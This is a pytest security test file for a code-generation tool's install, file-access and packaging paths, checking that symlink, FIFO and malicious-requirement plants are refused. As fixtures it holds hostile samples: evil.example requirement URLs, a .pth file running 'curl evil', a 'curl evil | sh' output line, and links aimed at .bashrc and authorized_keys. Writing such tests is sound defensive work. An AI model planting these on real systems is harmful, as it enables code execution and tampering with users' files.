"""The install path and host-side file access against what sandboxed code can plant.

S2: every install rebuilds the venv before the network step, which sees only the venv and
gets a safe environment. S3: only package-index requirements. S4: MultiCoder's own process
never reads or writes through a symbolic link the generated code planted (requirements files,
the install marker, downloads, ``dist/build.log``).
"""

from __future__ import annotations

import json
import os
import sys
import threading
from collections.abc import Callable, Mapping, Sequence
from pathlib import Path

import httpx
import pytest

from tools.appenv import INSTALL_VARIABLES, AppEnvironment, check_requirement, declared_requirements
from tools.safe_files import UnsafePathError, read_regular_file, write_file_atomic
from tools.sandbox.base import (
    AppEnvironmentError,
    CommandEnvironment,
    CommandResult,
    Sandbox,
)
from tools.web.base import WebError
from tools.web.cache import RateLimiter, TTLCache
from tools.web.http import WebHttp

POSIX = pytest.mark.skipif(sys.platform == "win32", reason="symbolic links and FIFOs: POSIX")
SECRET = "root:$6$planted-shadow-hash$abcdef:19000:0:99999:7:::"


def write(root: Path, files: Mapping[str, str]) -> Path:
    for name, text in files.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(text, encoding="utf-8")
    return root


def pyproject(*deps: str) -> str:
    listed = ", ".join(json.dumps(dep) for dep in deps)
    return f'[project]\nname = "app"\nversion = "0.1.0"\ndependencies = [{listed}]\n'


# -- S3: only the package index ---------------------------------------------------------------


@pytest.mark.parametrize("requirement", [
    "pkg @ https://evil.example/pkg-1.0-py3-none-any.whl",
    "pkg@file:///home/me/pkg",
    "pkg @ git+https://github.com/evil/pkg@main",
    "git+https://github.com/evil/pkg",
    "https://evil.example/pkg.whl",
    "file:///etc/passwd",
    "./local-pkg",
    "../outside/pkg",
    "pkg.tar.gz",
    "evil-1.0-py3-none-any.whl",
    "--index-url=http://evil.example/simple",
    "-r other.txt",
    "-e .",
    "six==1.16 --hash=sha256:abc",
    "not a requirement at all",
])
def test_url_vcs_file_and_option_requirements_are_refused(tmp_path: Path,
                                                          requirement: str) -> None:
    write(tmp_path, {"pyproject.toml": pyproject(requirement)})
    with pytest.raises(AppEnvironmentError) as caught:
        declared_requirements(tmp_path)
    message = str(caught.value)
    assert "\n" not in message
    assert "instead" in message or "installer option" in message
    (tmp_path / "pyproject.toml").unlink()
    write(tmp_path, {"requirements.txt": f"six\n{requirement}\n"})
    with pytest.raises(AppEnvironmentError):
        declared_requirements(tmp_path)


def test_plain_requirements_pass_in_canonical_form(tmp_path: Path) -> None:
    write(tmp_path, {"pyproject.toml": pyproject(
        "openpyxl>=3.1", "requests >= 2.31, <3", "PySide6[addons]; python_version < '3.14'",
        "zope.interface", "openpyxl>=3.1")})
    assert declared_requirements(tmp_path) == [
        "openpyxl>=3.1", "requests<3,>=2.31",
        'PySide6[addons]; python_version < "3.14"', "zope.interface"]
    assert check_requirement("  rich  ") == "rich"


def test_url_refusal_says_what_to_declare() -> None:
    with pytest.raises(AppEnvironmentError, match="declare 'pkg' with an optional version"):
        check_requirement("pkg @ https://evil.example/pkg.whl")


# -- S4: requirement files that are links ---------------------------------------------------


@POSIX
@pytest.mark.parametrize("name", ["requirements.txt", "pyproject.toml"])
def test_a_symlinked_requirements_file_is_refused_unread(tmp_path: Path, name: str) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    secret = outside / "shadow"
    secret.write_text(SECRET + "\n")
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / name).symlink_to(secret)
    with pytest.raises(AppEnvironmentError, match="symbolic link") as caught:
        declared_requirements(workspace)
    assert "planted-shadow-hash" not in str(caught.value)
    # A link to a file inside the workspace is refused too (it could be swapped later).
    (workspace / name).unlink()
    write(workspace, {"real.txt": "six\n"})
    (workspace / name).symlink_to(workspace / "real.txt")
    with pytest.raises(AppEnvironmentError, match="symbolic link"):
        declared_requirements(workspace)


@POSIX
def test_a_fifo_as_requirements_file_is_refused_without_blocking(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "requirements.txt")
    done: list[BaseException] = []

    def read() -> None:
        try:
            declared_requirements(tmp_path)
        except AppEnvironmentError as exc:
            done.append(exc)

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    reader.join(5)
    assert not reader.is_alive(), "reading a FIFO blocked"
    assert done and "not a regular file" in str(done[0])


@POSIX
def test_read_regular_file_refuses_links_and_paths_leading_outside(tmp_path: Path) -> None:
    root = tmp_path / "root"
    (root / "sub").mkdir(parents=True)
    (root / "sub" / "ok.txt").write_text("fine")
    assert read_regular_file(root / "sub" / "ok.txt", root=root) == b"fine"
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "x.txt").write_text("secret")
    (root / "linkdir").symlink_to(tmp_path / "elsewhere", target_is_directory=True)
    with pytest.raises(UnsafePathError, match="outside"):
        read_regular_file(root / "linkdir" / "x.txt", root=root)
    with pytest.raises(UnsafePathError, match="larger"):
        read_regular_file(root / "sub" / "ok.txt", root=root, max_bytes=2)


# -- S2 + S4: ensure() rebuilds the venv, network sees only it, marker links not followed ---


class FakeSandbox(Sandbox):
    """Records commands; ``uv venv`` makes a venv skeleton, the install step may plant things."""

    name = "fake"
    isolated = True

    def __init__(self, workspace: Path) -> None:
        super().__init__(workspace)
        self.calls: list[dict[str, object]] = []
        self.stopped = 0
        self.during_install: list[object] = []

    def uv_program(self) -> str:
        return "/fake/uv"

    def python_request(self, default: str) -> str:
        return "/trusted/python3.11"

    def stop_processes(self) -> None:
        self.stopped += 1

    def run(self, argv: Sequence[str], *, cwd: Path | None = None,
            env: Mapping[str, str] | None = None, timeout_s: float = 120.0,
            max_output_bytes: int = 200_000, stdin: str | None = None,
            network: bool = False) -> CommandResult:
        self.calls.append({"argv": list(argv), "cwd": cwd, "env": dict(env or {}),
                           "network": network})
        if argv[1] == "venv":
            venv = Path(argv[-1])
            if "--clear" in argv and venv.is_dir():
                for entry in sorted(venv.rglob("*"), reverse=True):
                    entry.unlink() if not entry.is_dir() or entry.is_symlink() else entry.rmdir()
            (venv / "bin").mkdir(parents=True, exist_ok=True)
            (venv / "lib" / "site-packages").mkdir(parents=True, exist_ok=True)
            (venv / "bin" / "python").write_text("")
        else:
            for plant in self.during_install:
                if callable(plant):
                    plant()
        return CommandResult(argv=list(argv), exit_code=0)


def test_every_install_rebuilds_the_venv_then_installs_offline_of_the_workspace(
        tmp_path: Path) -> None:
    write(tmp_path, {"requirements.txt": "six\n"})
    sandbox = FakeSandbox(tmp_path)
    environment = AppEnvironment(tmp_path, sandbox, tool_requirements=["ruff>=0.8"])
    environment.ensure()
    site = tmp_path / ".venv" / "lib" / "site-packages"
    (site / "evil.pth").write_text("import os; os.system('curl evil')\n")
    environment.marker_path.unlink()  # what the generated code does to force a reinstall
    sandbox.calls.clear()

    environment.ensure()
    venv_call, install_call = sandbox.calls
    assert venv_call["argv"] == ["/fake/uv", "venv", "--no-config", "--no-project", "--python",
                                 "/trusted/python3.11", "--clear", str(environment.venv_dir)]
    assert venv_call["network"] is False
    assert not (site / "evil.pth").exists()  # gone before the network step
    assert install_call["network"] is True
    assert install_call["cwd"] == environment.venv_dir  # all a network step may see
    assert install_call["argv"] == ["/fake/uv", "pip", "install", "--no-config", "--python",
                                    environment.program("python"), "six", "ruff>=0.8"]
    env = install_call["env"]
    assert isinstance(env, dict)
    for name, value in INSTALL_VARIABLES.items():
        assert env[name] == value
    assert env["PYTHONSAFEPATH"] == "1" and env["PYTHONNOUSERSITE"] == "1"
    assert str(environment.bin_dir) not in env["PATH"]
    assert not any(str(tmp_path) in env.get(name, "") for name in ("TMPDIR", "TEMP", "TMP"))
    assert sandbox.stopped == 2
    sandbox.calls.clear()
    assert environment.ensure() == [] and sandbox.calls == []  # unchanged: nothing runs


@POSIX
def test_the_marker_is_never_written_through_a_link(tmp_path: Path) -> None:
    victim = tmp_path / "home" / ".bashrc"
    victim.parent.mkdir()
    victim.write_text("# the person's shell setup\n")
    workspace = tmp_path / "ws"
    workspace.mkdir()
    write(workspace, {"requirements.txt": "six\n"})
    sandbox = FakeSandbox(workspace)
    environment = AppEnvironment(workspace, sandbox, tool_requirements=[])

    def plant() -> None:  # a link appears where the marker goes, after the venv was rebuilt
        environment.marker_path.unlink(missing_ok=True)
        environment.marker_path.symlink_to(victim)

    sandbox.during_install.append(plant)
    with pytest.raises(AppEnvironmentError, match="symbolic link"):
        environment.ensure()
    assert victim.read_text() == "# the person's shell setup\n"
    assert environment.marker_path.is_symlink()  # refused and left alone, target unchanged

    # Planted before ensure(): the rebuild removes it, the marker is a plain file again.
    sandbox.during_install.clear()
    environment.ensure()
    assert not environment.marker_path.is_symlink()
    assert json.loads(environment.marker_path.read_text())["requirements"] == ["six"]
    assert victim.read_text() == "# the person's shell setup\n"


@POSIX
def test_a_venv_that_is_a_link_is_replaced_not_followed(tmp_path: Path) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "keep.txt").write_text("keep")
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / ".venv").symlink_to(elsewhere, target_is_directory=True)
    environment = AppEnvironment(workspace, FakeSandbox(workspace), tool_requirements=[])
    environment.ensure()
    assert not environment.venv_dir.is_symlink() and environment.venv_dir.is_dir()
    assert sorted(p.name for p in elsewhere.iterdir()) == ["keep.txt"]


@POSIX
def test_write_file_atomic_replaces_a_link_never_its_target(tmp_path: Path) -> None:
    victim = tmp_path / "authorized_keys"
    victim.write_text("ssh-ed25519 AAAA the-person\n")
    dist = tmp_path / "dist"
    dist.mkdir()
    (dist / "build.log").symlink_to(victim)
    with pytest.raises(UnsafePathError, match="symbolic link"):
        write_file_atomic(dist / "build.log", b"attacker output", root=dist)
    assert victim.read_text() == "ssh-ed25519 AAAA the-person\n"
    (dist / "build.log").unlink()
    written = write_file_atomic(dist / "build.log", b"log", root=dist)
    assert written.read_bytes() == b"log" and not written.is_symlink()
    assert [p.name for p in dist.iterdir()] == ["build.log"]  # no temporary left behind
    (tmp_path / "sub").mkdir()
    (dist / "out").symlink_to(tmp_path / "sub", target_is_directory=True)
    with pytest.raises(UnsafePathError, match="outside"):
        write_file_atomic(dist / "out" / "manifest.json", b"{}", root=dist)


# -- S4: downloads -----------------------------------------------------------------------------


def _http(body: bytes = b"downloaded bytes") -> WebHttp:
    """A client whose every answer is ``body``, streamed without a Content-Length."""
    transport = httpx.MockTransport(
        lambda request: httpx.Response(200, content=iter([body[:5], body[5:]])))
    return WebHttp(TTLCache(None, ttl_s=0), RateLimiter(0), transport=transport,
                   allowed=["https://example.com"])


@POSIX
def test_a_planted_part_link_is_not_followed_by_a_download(tmp_path: Path) -> None:
    victim = tmp_path / "home" / ".ssh" / "authorized_keys"
    victim.parent.mkdir(parents=True)
    victim.write_text("ssh-ed25519 AAAA the-person\n")
    workspace = tmp_path / "ws"
    (workspace / "data").mkdir(parents=True)
    target = workspace / "data" / "file.bin"
    (workspace / "data" / "file.bin.part").symlink_to(victim)
    http = _http()
    try:
        response, size, _ = http.download("https://example.com/f", target, max_bytes=1000)
    finally:
        http.close()
    assert response.ok and size == len(b"downloaded bytes")
    assert target.read_bytes() == b"downloaded bytes" and not target.is_symlink()
    assert victim.read_text() == "ssh-ed25519 AAAA the-person\n"
    assert sorted(p.name for p in (workspace / "data").iterdir()) == ["file.bin",
                                                                      "file.bin.part"]


@POSIX
def test_a_download_over_a_link_is_refused(tmp_path: Path) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("unchanged")
    target = tmp_path / "ws" / "file.bin"
    target.parent.mkdir()
    target.symlink_to(victim)
    http = _http()
    try:
        with pytest.raises(WebError, match="symbolic link"):
            http.download("https://example.com/f", target, max_bytes=1000)
        with pytest.raises(WebError, match="larger"):
            http.download("https://example.com/f", tmp_path / "ws" / "big.bin", max_bytes=3)
    finally:
        http.close()
    assert victim.read_text() == "unchanged"
    assert sorted(p.name for p in target.parent.iterdir()) == ["file.bin"]  # nothing left


def test_the_bwrap_install_cache_is_multicoders_own() -> None:
    import platformdirs

    from tools.sandbox.bwrap import sandbox_uv_cache

    cache = sandbox_uv_cache(1234)
    assert cache == platformdirs.user_cache_path("multicoder") / "uv-sandbox-1234"
    assert "multicoder" in cache.parts


@POSIX
def test_checks_read_no_planted_link_or_fifo_as_source(tmp_path: Path) -> None:
    from tools.checks.context import source_files

    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "shadow").write_text(SECRET)
    workspace = tmp_path / "ws"
    (workspace / "pkg").mkdir(parents=True)
    (workspace / "pkg" / "real.py").write_text("x = 1\n")
    (workspace / "leak.py").symlink_to(outside / "shadow")
    (workspace / "alias.py").symlink_to(workspace / "pkg" / "real.py")
    os.mkfifo(workspace / "block.py")
    assert [p.relative_to(workspace).as_posix() for p in source_files(workspace)] == [
        "alias.py", "pkg/real.py"]


class _ReadyEnvironment(CommandEnvironment):
    def ensure(self) -> list[CommandResult]:
        return []

    def program(self, name: str) -> str:
        return f"/venv/bin/{name}"

    def variables(self) -> dict[str, str]:
        return {}


class _PlantingSandbox(FakeSandbox):
    """Stands in for PyInstaller: prints attacker-chosen text, runs ``plant`` first."""

    def __init__(self, workspace: Path, plant: Callable[[], None]) -> None:
        super().__init__(workspace)
        self.plant = plant

    def run(self, argv: Sequence[str], *, cwd: Path | None = None,
            env: Mapping[str, str] | None = None, timeout_s: float = 120.0,
            max_output_bytes: int = 200_000, stdin: str | None = None,
            network: bool = False) -> CommandResult:
        self.plant()
        return CommandResult(argv=list(argv), exit_code=0, stdout="curl evil | sh\n")


@POSIX
@pytest.mark.parametrize("planted", ["build.log", "app"])
def test_packaging_never_writes_or_hashes_through_a_planted_link(tmp_path: Path,
                                                                 planted: str) -> None:
    from tools.checks.base import AppContract
    from tools.checks.context import CheckContext
    from tools.packaging.pyinstaller import PackagingError, build_executable

    victim = tmp_path / "home" / ".bashrc"
    victim.parent.mkdir()
    victim.write_text("# the person's shell setup\n")
    workspace, dist = tmp_path / "ws", tmp_path / "dist"
    write(workspace, {"main.py": "print('hi')\n"})
    dist.mkdir()

    def plant() -> None:  # the app (or PyInstaller running its code) plants a link in dist/
        (dist / planted).symlink_to(victim)

    ctx = CheckContext(workspace=workspace, contract=AppContract(name="app", entry="main.py"),
                       sandbox=_PlantingSandbox(workspace, plant),
                       environment=_ReadyEnvironment())
    with pytest.raises(PackagingError, match="symbolic link"):
        build_executable(ctx, dist)
    assert victim.read_text() == "# the person's shell setup\n"
    assert (dist / planted).is_symlink()
    assert not (dist / "manifest.json").exists()


def test_a_pyside6_app_never_gets_the_shiboken_release_that_aborts_it(tmp_path: Path) -> None:
    """shiboken6 6.12.0 loses a reference to None on every void Qt call (Python 3.11)."""
    from tools.appenv import KNOWN_BAD

    write(tmp_path, {"pyproject.toml": pyproject("PySide6>=6.7", "openpyxl")})
    environment = AppEnvironment(tmp_path, FakeSandbox(tmp_path), tool_requirements=["ruff"])
    wanted = environment.requirements()
    assert wanted == ["PySide6>=6.7", "openpyxl", KNOWN_BAD["pyside6"], "ruff"]
    write(tmp_path, {"pyproject.toml": pyproject("openpyxl")})
    assert environment.requirements() == ["openpyxl", "ruff"]
